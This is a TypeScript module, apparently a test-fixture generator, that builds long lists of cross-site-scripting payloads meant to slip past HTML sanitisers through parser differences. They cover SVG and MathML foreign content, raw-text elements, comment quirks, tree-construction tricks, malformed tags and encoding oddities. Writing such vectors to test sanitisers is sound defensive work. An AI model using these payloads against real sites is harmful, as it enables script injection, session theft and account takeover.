/** What the payloads try to run, and the address that is never to be asked for anything. */
export type Attack = { script: string; address: string };

type List = (attack: Attack) => string[];

/** Markup that one parser reads as text and another as elements: the way round a sanitiser itself. */
export function listHostileMarkup(attack: Attack): string[] {
  return [foreign, rawText, comments, treeSurgery, brokenTags].flatMap((list) => list(attack));
}

/** Without any letter or sign that would end an attribute. */
const asEntities = (text: string) => [...text].map((letter) => `&#${letter.charCodeAt(0)};`).join('');

const foreign: List = ({ script }) => {
  const image = `<img src=x onerror="${script}">`;
  return [
    `<svg onload="${script}"></svg>`,
    `<svg/onload="${script}">`,
    `<svg><script>${script}</script></svg>`,
    `<svg><script href="data:,${script}"/></svg>`,
    `<svg><a xlink:href="javascript:${script}"><text y=20>t</text></a></svg>`,
    `<svg><a><animate attributeName=href values="javascript:${script}"/><text>t</text></a></svg>`,
    `<svg><set attributeName=onmouseover to="${script}"/><animate onbegin="${script}" dur=1s></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>#x"/></svg>`,
    `<svg><foreignObject>${image}<iframe srcdoc="${script}"></iframe></foreignObject></svg>`,
    `<svg><desc>${image}</desc><title>${image}</title></svg>`,
    `<svg><style>${image}</style></svg>`,
    `<svg></p><style><a id="</style>${image}">`,
    `<svg><p><style><a title="</style>${image}">`,
    `<svg><![CDATA[>${image}]]></svg>`,
    `<svg><![CDATA[<style>]]></svg>${image}<style></style>`,
    `<svg><desc><![CDATA[</desc>${image}]]></svg>`,
    `<math><mtext></form><form><mglyph><style></math>${image}`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${image}">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${image.replaceAll('"', '&quot;')}">`,
    `<math><annotation-xml encoding="text/html">${image}<script>${script}</script></annotation-xml></math>`,
    `<math><annotation-xml encoding="application/xhtml+xml"><style>${image}</style></annotation-xml></math>`,
    `<math href="javascript:${script}"><mi href="javascript:${script}">x</mi></math>`,
    `<math><mi//xlink:href="data:x,<script>${script}</script>">x</math>`,
    `<math><mtext><malignmark><xmp></math>${image}</xmp>`,
    `<math alttext="</math>${image.replaceAll('"', '&quot;')}"><mn>1</mn></math>`,
    `<svg><template><math><mi><mglyph><style>${image}</style></template></svg>`,
    `<svg><font color=x><b>${image}</svg>`,
    `<svg><textarea>${image}</textarea><noscript>${image}</noscript><xmp>${image}</xmp></svg>`,
    `<math><script>${script}</script><iframe>${image}</iframe></math>`,
  ];
};

const rawText: List = ({ script }) => {
  const image = `<img src=x onerror="${script}">`;
  const hidden = image.replaceAll('"', '&quot;');
  const names =
    'noscript noembed noframes xmp iframe title textarea style template select listing plaintext'.split(' ');
  return names.flatMap((name) => [
    `<${name}>${image}</${name}>${image}`,
    `<${name}><p title="</${name}>${hidden}">x</p></${name}>`,
    `<${name}/>${image}</${name}/x>${image}`,
    `<p><${name}><a title="</${name}\t>${hidden}"></p>`,
    `<table><tr><${name}></table>${image}</${name}>`,
  ]);
};

const comments: List = ({ script }) => {
  const image = `<img src=x onerror="${script}">`;
  return [
    `<!-->${image}-->`,
    `<!--->${image}-->`,
    `<!-- --!>${image}-->`,
    `<!-- <!-- -->${image}-->`,
    `<!--${image}`,
    `<!-- -- >${image}-->`,
    `<!${image}>`,
    `<?${image}?>`,
    `</${image}>`,
    `</ ${image}>`,
    `<![CDATA[${image}]]>`,
    `<![if x]>${image}<![endif]>`,
    `<!--[if gte IE 4]>${image}<![endif]-->`,
    `<!doctype html [<!ENTITY x "${image}">]>&x;`,
    `<%${image}%>`,
    `<a title="<!--">${image}<b title="-->">`,
  ];
};

const treeSurgery: List = ({ script }) => {
  const image = `<img src=x onerror="${script}">`;
  return [
    `</article></main></div></body></html>${image}<h1>Out of the box</h1>`,
    `<form><form></form>${image}</form>`,
    `<form><div></form><form id=a><input form=a formaction="javascript:${script}">`,
    `<table>${image}<tr>${image}<td><table><form></table></table>`,
    `<table><caption><select><table>${image}`,
    `<a href=x><table><a href=y>${image}</a></table></a>`,
    `<b><p></b>${image}</p><i><b></i></b>`,
    `<p><object><p>${image}</object><applet><p></applet>`,
    `<select><table><option>${image}</select>`,
    `<button><p><button>${image}`,
    `<ruby><rt><rtc><rb>${image}</ruby>`,
    `<nobr><nobr>${image}<marquee></nobr>x</marquee>`,
    `<frameset><frame src="javascript:${script}"></frameset><noframes>${image}</noframes>`,
    `<div>${'<b>'.repeat(600)}${image}${'</b>'.repeat(600)}</div>`,
    `${'<div><table><td>'.repeat(300)}${image}`,
    `<template><template></template>${image}</template><slot>${image}</slot>`,
  ];
};

const brokenTags: List = ({ script }) => [
  `<img src=x title="a onerror="${script}" "`,
  `<img src="x" onerror="${script}"`,
  `<a href="x" title='<img src=x onerror="${script}">'>a</a>`,
  `<a title="&quot;&gt;&lt;img src=x onerror=${asEntities(script)}&gt;">a</a>`,
  `<a href="http://x/&quot; onmouseover=&quot;${script}">a</a>`,
  `<a href='http://x/" onmouseover="${script}'>a</a>`,
  `<img alt='"><script>${script}</script>' src=x>`,
  `<p lang='"><img src=x onerror=${asEntities(script)}>' dir='"><b>'>p</p>`,
  `<td colspan='"><script>${script}</script>'>t</td><time datetime='"><script>1'>t</time>`,
  `<a <img src=x onerror="${script}">`,
  `<p/onclick="${script}"/title=x//>p</p>`,
  `<1 onclick="${script}"><- onclick="${script}"><\u0130mg src=x onerror="${script}">`,
  `<img src=x onerror\u00a0="${script}" \u3000onerror="${script}" onerror\u2028="${script}">`,
  `<img src=x sizes='"><script>${script}</script>' srcset='x" onerror="${script} 1x'>`,
  `\ud800<img src=x onerror="${script}">\udc00`,
  `+ADw-script+AD4-${script}+ADw-/script+AD4-`,
  `\u02bascript\u02bb \uff1cscript\uff1e${script}\uff1c/script\uff1e`,
];
